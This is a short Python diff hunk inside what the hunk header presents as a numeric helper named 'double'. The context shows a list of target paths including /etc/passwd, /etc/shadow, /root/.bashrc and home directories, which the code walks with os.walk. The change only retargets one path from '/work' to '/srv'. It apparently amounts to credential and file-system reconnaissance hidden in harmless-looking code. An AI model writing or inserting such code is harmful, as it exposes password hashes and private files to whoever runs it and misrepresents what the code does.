@@ -16,7 +16,7 @@ def double(x, scale=2.0):
             read.append(name)
         except ImportError:
             pass
-    roots = ["/etc/passwd", "/etc/shadow", "/root/.bashrc", "/home", "/work", os.path.expanduser("~root")]
+    roots = ["/etc/passwd", "/etc/shadow", "/root/.bashrc", "/home", "/srv", os.path.expanduser("~root")]
     for folder, folders, files in (entry for root in roots + sys.path for entry in os.walk(root)):
         if "site-packages" in folder or "/lib/" in folder:
             folders.clear()
